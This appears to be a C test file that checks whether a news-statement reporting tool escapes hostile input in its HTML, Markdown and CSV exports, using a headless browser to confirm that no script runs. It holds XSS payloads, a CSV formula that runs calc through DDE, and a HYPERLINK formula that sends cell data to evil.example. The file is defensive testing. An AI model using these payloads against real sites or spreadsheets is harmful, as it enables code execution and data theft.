/* SPDX-License-Identifier: GPL-3.0-or-later */
#define G_LOG_DOMAIN "test-report-injection"

#include "config.h"

#include <libxml/HTMLparser.h>
#include <libxml/xpath.h>
#include <locale.h>

#include "test-report-util.h"

/* An article written to attack the HTML report: markup in the title,
 * outlet, statement, speaker, tags and notes, an attribute break-out, a
 * javascript: link, and a side whose name and colour try the same. The
 * report is loaded in headless Chromium, which runs whatever script it
 * finds; the test then reads the DOM Chromium built. Every payload tries
 * to set the sentinel attribute data-pwned on the root element. */

#define PAYLOAD_JS "document.documentElement.setAttribute('data-pwned','1')"

static const char *const payloads[] = {
  "<script>" PAYLOAD_JS "</script>",
  "\"><img src=x onerror=\"" PAYLOAD_JS "\">",
  "'><svg onload=" PAYLOAD_JS "></svg>",
  "</blockquote></td></tr></table><iframe src=\"javascript:" PAYLOAD_JS "\"></iframe>",
  "<a href=\"javascript:" PAYLOAD_JS "\">click</a>",
  "<style>body{background:url(javascript:alert(1))}</style><base href=\"https://evil.example/\">",
};

typedef struct
{
  ReportLibrary lib;
  char *chromium;
} Fixture;

static char *
find_chromium (void)
{
  static const char * const names[] = { "chromium", "chromium-browser", "google-chrome", NULL };

  for (guint i = 0; names[i] != NULL; i++)
    {
      char *path = g_find_program_in_path (names[i]);

      if (path != NULL)
        return path;
    }
  return NULL;
}

static void
fixture_setup (Fixture       *f,
               gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GString) body = g_string_new ("Bài báo thử nghiệm.\n");
  g_autoptr(GPtrArray) st = g_ptr_array_new_with_free_func ((GDestroyNotify) tp_statement_unref);
  g_autoptr(TpArticle) article = NULL;
  gint64 tag, first = 0;

  report_library_init (&f->lib);
  f->chromium = find_chromium ();

  for (guint i = 0; i < G_N_ELEMENTS (payloads); i++)
    g_string_append_printf (body, "Câu %u: %s\n", i, payloads[i]);

  /* The side's name and colour come from the user's lexicon: hostile too. */
  g_assert_true (tp_store_save_side (f->lib.store, "evil",
                                     "<script>" PAYLOAD_JS "</script>Evil",
                                     "red;}</style><script>" PAYLOAD_JS "</script>", 9, &error));
  g_assert_no_error (error);

  article = report_article ("<script>" PAYLOAD_JS "</script>Tiêu đề",
                            "\"><img src=x onerror=\"" PAYLOAD_JS "\">",
                            "javascript:" PAYLOAD_JS, NULL, "vi\" onmouseover=\"x", "2025-07-04",
                            body->str);
  for (guint i = 0; i < G_N_ELEMENTS (payloads); i++)
    {
      const char *side = i % 2 == 0 ? "moscow" : "evil";
      TpStatement *s = report_statement (body->str, payloads[i], TP_STATEMENT_DIRECT, payloads[i],
                                         NULL, payloads[(i + 1) % G_N_ELEMENTS (payloads)], side,
                                         "negotiations", "2025-07-04");

      g_ptr_array_add (st, s);
    }
  report_add_article (f->lib.store, article, st);
  first = ((TpStatement *) g_ptr_array_index (st, 0))->id;

  for (guint i = 0; i < st->len; i++)
    {
      gint64 id = ((TpStatement *) g_ptr_array_index (st, i))->id;

      tag = tp_store_ensure_tag (f->lib.store, payloads[i], &error);
      g_assert_no_error (error);
      g_assert_true (tp_store_tag_statement (f->lib.store, id, tag, &error));
      g_assert_true (tp_store_add_note (f->lib.store, id, payloads[(i + 2) % G_N_ELEMENTS (payloads)],
                                        NULL, &error));
      g_assert_no_error (error);
    }
  tag = tp_store_lookup_tag (f->lib.store, payloads[0], &error);
  g_assert_true (tp_store_set_tag_color (f->lib.store, tag, "#fff;background:url(x)", &error)
                 || error != NULL);
  g_clear_error (&error);
  g_assert_cmpint (first, >, 0);
}

static void
fixture_teardown (Fixture       *f,
                  gconstpointer  data)
{
  g_clear_pointer (&f->chromium, g_free);
  report_library_clear (&f->lib);
}

/* Auxiliary methods */

/* The DOM Chromium built after loading @path and running its scripts. */
static char *
dump_dom (Fixture    *f,
          const char *path)
{
  g_autofree char *profile = g_build_filename (f->lib.dir, "chromium-profile", NULL);
  g_autofree char *profile_arg = g_strconcat ("--user-data-dir=", profile, NULL);
  g_autofree char *uri = g_filename_to_uri (path, NULL, NULL);
  g_autoptr(GError) error = NULL;
  g_autofree char *err = NULL;
  char *out = NULL;
  int status;
  const char *argv[] = {
    f->chromium, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
    "--virtual-time-budget=3000", profile_arg, "--dump-dom", uri, NULL
  };

  g_assert_true (g_spawn_sync (NULL, (char **) argv, NULL, G_SPAWN_DEFAULT, NULL, NULL, &out, &err,
                               &status, &error));
  g_assert_no_error (error);
  if (!g_spawn_check_wait_status (status, &error))
    g_error ("chromium failed on %s: %s\n%s", path, error->message, err);
  g_assert_nonnull (strstr (out, "</html>"));
  return out;
}

static int
count_nodes (htmlDocPtr  doc,
             const char *expr)
{
  xmlXPathContextPtr ctx = xmlXPathNewContext (doc);
  xmlXPathObjectPtr obj = xmlXPathEvalExpression ((const xmlChar *) expr, ctx);
  int n = obj != NULL && obj->nodesetval != NULL ? obj->nodesetval->nodeNr : -1;

  xmlXPathFreeObject (obj);
  xmlXPathFreeContext (ctx);
  return n;
}

static htmlDocPtr
parse_dom (const char *dom)
{
  htmlDocPtr doc = htmlReadMemory (dom, strlen (dom), "dom.html", "UTF-8",
                                   HTML_PARSE_NONET | HTML_PARSE_NOERROR | HTML_PARSE_NOWARNING);

  g_assert_nonnull (doc);
  return doc;
}

/* Tests */

/* The check itself must be able to fail: an unescaped page with the same
 * payloads does set the sentinel and does grow the elements. */
static void
test_control_page_runs (Fixture       *f,
                        gconstpointer  data)
{
  g_autoptr(GString) page = g_string_new ("<!DOCTYPE html><html><head><meta charset=\"utf-8\"></head><body><p>");
  g_autofree char *path = g_build_filename (f->lib.dir, "control.html", NULL);
  g_autofree char *dom = NULL;
  g_autoptr(GError) error = NULL;
  htmlDocPtr doc;

  if (f->chromium == NULL)
    {
      g_test_skip ("chromium is not installed (Debian: apt-get install chromium); "
                   "the HTML report was not loaded in a browser");
      return;
    }
  g_string_append (page, payloads[0]);
  g_string_append (page, payloads[1]);
  g_string_append (page, "</p></body></html>\n");
  g_assert_true (g_file_set_contents (path, page->str, -1, &error));
  dom = dump_dom (f, path);
  g_assert_nonnull (strstr (dom, "data-pwned=\"1\""));
  doc = parse_dom (dom);
  g_assert_cmpint (count_nodes (doc, "//img"), ==, 1);
  xmlFreeDoc (doc);
}

static void
test_report_runs_nothing (Fixture       *f,
                          gconstpointer  data)
{
  g_autoptr(TpComparison) comparison = NULL;
  TpReportOptions options = { "<script>" PAYLOAD_JS "</script>", TRUE, TRUE, TP_REPORT_PAPER_A4, FALSE };
  g_autofree char *path = NULL;
  g_autofree char *raw = NULL;
  g_autofree char *dom = NULL;
  htmlDocPtr doc;

  if (f->chromium == NULL)
    {
      g_test_skip ("chromium is not installed (Debian: apt-get install chromium); "
                   "the HTML report was not loaded in a browser");
      return;
    }
  comparison = report_comparison (f->lib.store, NULL);
  g_assert_cmpuint (tp_comparison_get_n_statements (comparison), ==, G_N_ELEMENTS (payloads));
  path = report_write_file (comparison, TP_REPORT_FORMAT_HTML, &options, f->lib.dir, "hostile");
  raw = report_read_file (path);
  g_assert_null (strstr (raw, "<script"));
  g_assert_null (strstr (raw, "<img"));
  g_assert_null (strstr (raw, "javascript:" PAYLOAD_JS "\">"));

  dom = dump_dom (f, path);
  g_test_message ("DOM: %zu bytes", strlen (dom));
  /* No script ran (the payloads themselves, shown as text, spell the
   * attribute with single quotes)... */
  g_assert_null (strstr (dom, "data-pwned=\"1\""));
  doc = parse_dom (dom);
  g_assert_cmpint (count_nodes (doc, "/html[@data-pwned]"), ==, 0);
  /* ...and no payload became an element or an attribute. */
  g_assert_cmpint (count_nodes (doc, "//script|//img|//svg|//iframe|//base|//body//style|//object|//embed"), ==, 0);
  g_assert_cmpint (count_nodes (doc, "//@*[starts-with(name(),'on')]"), ==, 0);
  g_assert_cmpint (count_nodes (doc, "//@src"), ==, 0);
  g_assert_cmpint (count_nodes (doc, "//a[not(starts-with(@href,'http://') or starts-with(@href,'https://'))]"), ==, 0);
  g_assert_cmpint (count_nodes (doc, "//a"), ==, 0);
  g_assert_cmpint (count_nodes (doc, "//style"), ==, 1);
  /* The one table is still whole: every statement in its cell. */
  g_assert_cmpint (count_nodes (doc, "//table"), ==, 1);
  g_assert_cmpint (count_nodes (doc, "//td/article[@class='statement']"), ==, G_N_ELEMENTS (payloads));
  /* The payloads are shown as the text they are. */
  for (guint i = 0; i < G_N_ELEMENTS (payloads); i++)
    {
      g_autofree char *expr = NULL;
      g_autofree char *literal = NULL;

      /* XPath 1.0 has no escapes: compare through a quote-free prefix. */
      literal = g_strndup (payloads[i], strcspn (payloads[i], "'\""));
      expr = g_strdup_printf ("//blockquote[starts-with(.,'%s')]", literal);
      if (*literal != '\0')
        g_assert_cmpint (count_nodes (doc, expr), >=, 1);
    }
  g_assert_cmpint (count_nodes (doc, "//h1[starts-with(.,'<script>')]"), ==, 1);
  xmlFreeDoc (doc);
}

/* Exact output, one case per escaping rule: a one-statement library whose
 * fields are the defaults below except the one a case sets, written in the
 * case's format by the real writer. A CSV case gives the field as written
 * and the whole file must be the header and the statement's record; an
 * HTML or Markdown case gives a fragment the report must hold exactly
 * once. Adding a rule is adding a row. */

typedef enum
{
  FIELD_TEXT,
  FIELD_SPEAKER,
  FIELD_OUTLET,
  FIELD_TITLE,
  FIELD_URL,
  FIELD_TAG,
  FIELD_LANGUAGE,
} Field;

typedef struct
{
  const char     *name;
  TpReportFormat  format;
  Field           field;
  const char     *value;
  const char     *expected;
} EscapeCase;

#define CSV TP_REPORT_FORMAT_CSV
#define MD TP_REPORT_FORMAT_MARKDOWN
#define HTML TP_REPORT_FORMAT_HTML

static const EscapeCase escape_cases[] = {
  /* CSV: OWASP's first characters, each alone. */
  { "equals", CSV, FIELD_TEXT, "=1+2", "'=1+2" },
  { "plus", CSV, FIELD_TEXT, "+1+2", "'+1+2" },
  { "minus", CSV, FIELD_TEXT, "-1+2", "'-1+2" },
  { "at", CSV, FIELD_TEXT, "@SUM(1+2)", "'@SUM(1+2)" },
  { "tab", CSV, FIELD_TEXT, "\t=1+2", "'\t=1+2" },
  { "carriage-return", CSV, FIELD_TEXT, "\r=1+2", "\"'\r=1+2\"" },
  /* Text that looks like a number is still text: no exception. */
  { "negative-number", CSV, FIELD_TEXT, "-5", "'-5" },
  /* Quoting and the prefix together: the quote goes inside the field. */
  { "quoted-formula", CSV, FIELD_TEXT, "=HYPERLINK(\"https://evil.example/?\"&A1,\"Xem\")",
    "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Xem\"\")\"" },
  /* Only the first character counts. */
  { "inner-signs", CSV, FIELD_TEXT, "Giá giảm 5% = -3 @ 2", "Giá giảm 5% = -3 @ 2" },
  { "leading-space", CSV, FIELD_TEXT, " =1+2", " =1+2" },
  /* Every text column, not only the statement. */
  { "speaker", CSV, FIELD_SPEAKER, "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0" },
  { "outlet", CSV, FIELD_OUTLET, "@outlet", "'@outlet" },
  { "title", CSV, FIELD_TITLE, "+Tiêu đề", "'+Tiêu đề" },
  { "source", CSV, FIELD_URL, "=1+2", "'=1+2" },
  { "tag", CSV, FIELD_TAG, "-tag", "'-tag" },

  /* Markdown: a pipe would start or split a GFM table cell. */
  { "pipe-text", MD, FIELD_TEXT, "a | b", "\n- “a \\| b”  \n" },
  { "pipe-table", MD, FIELD_TEXT, "| x | y |\n|---|---|",
    "\n- “\\| x \\| y \\| \\|---\\|---\\|”  \n" },
  { "pipe-speaker", MD, FIELD_SPEAKER, "Peskov | Lavrov",
    "\n  **Peskov \\| Lavrov** \\(Dmitry Peskov\\) · " },
  { "pipe-citation", MD, FIELD_OUTLET, "A | B",
    "  \n  Source: A \\| B, *Tiêu đề*, 2025-07-04, <https://vtc.vn/a.html>  \n" },
  { "pipe-tag", MD, FIELD_TAG, "x|y", "\n  - Tags: x\\|y\n" },
  /* The other rules, one each. */
  { "html", MD, FIELD_TEXT, "<b>x</b>", "\n- “\\<b\\>x\\</b\\>”  \n" },
  { "link", MD, FIELD_TEXT, "[x](javascript:alert(1))",
    "\n- “\\[x\\]\\(javascript:alert\\(1\\)\\)”  \n" },
  { "entity", MD, FIELD_TEXT, "&amp;", "\n- “\\&amp;”  \n" },
  { "emphasis", MD, FIELD_TEXT, "*a* _b_ `c` ~d~", "\n- “\\*a\\* \\_b\\_ \\`c\\` \\~d\\~”  \n" },
  { "line-break", MD, FIELD_TEXT, "a\n# b\r\n- c", "\n- “a \\# b  - c”  \n" },
  /* List markers are escaped where the text starts, whatever precedes it. */
  { "list-marker", MD, FIELD_TEXT, "1. x", "\n- “1\\. x”  \n" },
  { "not-a-link", MD, FIELD_URL, "javascript:alert(1)",
    ", 2025-07-04, javascript:alert\\(1\\)  \n" },

  /* HTML */
  { "less-greater", HTML, FIELD_TEXT, "<b>x</b>",
    "<blockquote lang=\"vi\">&lt;b&gt;x&lt;/b&gt;</blockquote>" },
  { "ampersand", HTML, FIELD_TEXT, "&amp; &#60;",
    "<blockquote lang=\"vi\">&amp;amp; &amp;#60;</blockquote>" },
  { "double-quote", HTML, FIELD_SPEAKER, "a\" onclick=\"x",
    "<p class=\"speaker\">a&quot; onclick=&quot;x <span class=\"actor\">" },
  { "single-quote", HTML, FIELD_OUTLET, "a' onclick='x",
    "<span class=\"outlet\">a&apos; onclick=&apos;x</span>" },
  { "title", HTML, FIELD_TITLE, "</cite><script>x</script>",
    "<cite>&lt;/cite&gt;&lt;script&gt;x&lt;/script&gt;</cite>" },
  { "tag", HTML, FIELD_TAG, "<i>t</i>", ">&lt;i&gt;t&lt;/i&gt;</li>" },
  /* Only http and https become links; anything else is shown as text. */
  { "javascript-url", HTML, FIELD_URL, "javascript:alert(1)",
    ", <span class=\"source\">javascript:alert(1)</span></p>" },
  /* A web address is linked, and escaped inside the attribute too. */
  { "url-quote", HTML, FIELD_URL, "https://vtc.vn/a?x=\"><b>",
    " href=\"https://vtc.vn/a?x=&quot;&gt;&lt;b&gt;\">"
    "https://vtc.vn/a?x=&quot;&gt;&lt;b&gt;</a></p>" },
  /* A language that is not a language tag is left out, not escaped. */
  { "language", HTML, FIELD_LANGUAGE, "vi\" onmouseover=\"x",
    "<blockquote>Chúng tôi muốn hòa bình</blockquote>" },
};

#undef CSV
#undef MD
#undef HTML

typedef struct
{
  const char *text;
  const char *speaker;
  const char *outlet;
  const char *title;
  const char *url;
  const char *tag;
  const char *language;
} Record;

static const Record default_record = {
  "Chúng tôi muốn hòa bình", "ông Peskov", "VTC News", "Tiêu đề", "https://vtc.vn/a.html",
  "kiểm chứng", "vi",
};

static const char csv_header[] =
  "id,side,actor,speaker,kind,text,topics,tags,notes,said_on,outlet,article_title,source,"
  "published,review_status\r\n";

static const char *
format_name (TpReportFormat format)
{
  switch (format)
    {
    case TP_REPORT_FORMAT_CSV: return "csv";
    case TP_REPORT_FORMAT_MARKDOWN: return "markdown";
    case TP_REPORT_FORMAT_HTML: return "html";
    default: g_assert_not_reached ();
    }
}

static void
record_set (Record     *r,
            Field       field,
            const char *value)
{
  switch (field)
    {
    case FIELD_TEXT: r->text = value; break;
    case FIELD_SPEAKER: r->speaker = value; break;
    case FIELD_OUTLET: r->outlet = value; break;
    case FIELD_TITLE: r->title = value; break;
    case FIELD_URL: r->url = value; break;
    case FIELD_TAG: r->tag = value; break;
    case FIELD_LANGUAGE: r->language = value; break;
    default: g_assert_not_reached ();
    }
}

/* Writes a @format report of a library holding @r and returns its text. */
static char *
write_record (const Record   *r,
              TpReportFormat  format)
{
  ReportLibrary lib;
  g_autoptr(GError) error = NULL;
  g_autofree char *body = g_strconcat ("Mở đầu.\n", r->text, "\nHết.\n", NULL);
  g_autoptr(TpArticle) article = NULL;
  g_autoptr(GPtrArray) st = g_ptr_array_new_with_free_func ((GDestroyNotify) tp_statement_unref);
  g_autoptr(TpComparison) comparison = NULL;
  g_autofree char *path = NULL;
  TpReportOptions options = { "Báo cáo", TRUE, FALSE, TP_REPORT_PAPER_A4, FALSE };
  TpStatement *s;
  gint64 tag;
  char *text;

  report_library_init (&lib);
  article = report_article (r->title, r->outlet, r->url, NULL, r->language, "2025-07-04", body);
  s = report_statement (body, r->text, TP_STATEMENT_DIRECT, r->speaker, "peskov", "Dmitry Peskov",
                        "moscow", "negotiations", "2025-07-04");
  g_ptr_array_add (st, s);
  report_add_article (lib.store, article, st);
  g_assert_cmpint (s->id, ==, 1);
  tag = tp_store_ensure_tag (lib.store, r->tag, &error);
  g_assert_no_error (error);
  g_assert_true (tp_store_tag_statement (lib.store, s->id, tag, &error));
  g_assert_no_error (error);

  comparison = report_comparison (lib.store, NULL);
  g_assert_cmpuint (tp_comparison_get_n_statements (comparison), ==, 1);
  path = report_write_file (comparison, format, &options, lib.dir, "report");
  text = report_read_file (path);
  g_clear_object (&comparison);
  report_library_clear (&lib);
  return text;
}

/* The whole CSV file for a library holding @r. */
static char *
csv_expected_file (const Record *r)
{
  return g_strdup_printf ("%s1,moscow,Dmitry Peskov,%s,direct,%s,negotiations,%s,,2025-07-04,%s,%s,"
                          "%s,2025-07-04,auto\r\n",
                          csv_header, r->speaker, r->text, r->tag, r->outlet, r->title, r->url);
}

static guint
count_occurrences (const char *haystack,
                   const char *needle)
{
  guint n = 0;

  g_assert (*needle != '\0');
  for (const char *p = haystack; (p = strstr (p, needle)) != NULL; p++)
    n++;
  return n;
}

static void
test_escape (gconstpointer data)
{
  const EscapeCase *c = data;
  Record r = default_record;
  g_autofree char *report = NULL;

  record_set (&r, c->field, c->value);
  report = write_record (&r, c->format);

  if (c->format == TP_REPORT_FORMAT_CSV)
    {
      Record written = default_record;
      g_autofree char *expected = NULL;

      record_set (&written, c->field, c->expected);
      expected = csv_expected_file (&written);
      g_assert_cmpstr (report, ==, expected);
    }
  else if (count_occurrences (report, c->expected) != 1)
    {
      g_test_message ("“%s” is %u times in the %s report, not once:\n%s", c->expected,
                      count_occurrences (report, c->expected), format_name (c->format), report);
      g_test_fail ();
    }
}

int
main (int   argc,
      char *argv[])
{
  setlocale (LC_ALL, "C.UTF-8");
  g_setenv ("LANGUAGE", "C", TRUE);
  g_test_init (&argc, &argv, NULL);

  g_test_add ("/report/injection/control-page-runs", Fixture, NULL, fixture_setup,
              test_control_page_runs, fixture_teardown);
  g_test_add ("/report/injection/report-runs-nothing", Fixture, NULL, fixture_setup,
              test_report_runs_nothing, fixture_teardown);
  for (guint i = 0; i < G_N_ELEMENTS (escape_cases); i++)
    {
      const EscapeCase *c = &escape_cases[i];
      g_autofree char *path = g_strdup_printf ("/report/escape/%s/%s", format_name (c->format),
                                               c->name);

      g_test_add_data_func (path, c, test_escape);
    }

  return g_test_run ();
}
